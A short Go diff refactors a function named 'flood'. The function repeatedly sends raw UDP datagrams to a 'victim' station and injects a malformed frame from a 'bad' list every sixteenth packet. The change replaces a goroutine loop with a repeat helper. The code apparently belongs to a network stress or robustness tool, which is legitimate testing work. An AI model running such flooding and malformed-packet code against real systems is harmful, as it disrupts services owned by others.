@@ -113,7 +113,7 @@ func attackFrom(victim station) error {
 	return nil
 }
 
-// flood sends a victim datagrams without end, and now and then what may not be sent.
+// flood sends a victim datagrams until it is stopped, and now and then what may not be sent.
 func flood(victim station) error {
 	self, send, err := raw()
 	if err != nil {
@@ -127,15 +127,15 @@ func flood(victim station) error {
 	binary.BigEndian.PutUint16(b[24:], packet.Checksum(b[14:34]))
 	b = append(b, 3, 0xe8, 0, 9, (8+size)>>8, (8+size)&0xff, 0, 0)
 	b = append(b, make([]byte, size)...)
-	go func() {
-		for n := 0; ; n++ {
-			f := b
-			if n%16 == 0 {
-				f = bad[n/16%len(bad)].frame
-			}
-			_ = send(f) // its queue may be full
+	n := 0
+	repeat(func() {
+		f := b
+		if n%16 == 0 {
+			f = bad[n/16%len(bad)].frame
 		}
-	}()
+		_ = send(f) // its queue may be full
+		n++
+	})
 	return nil
 }
 
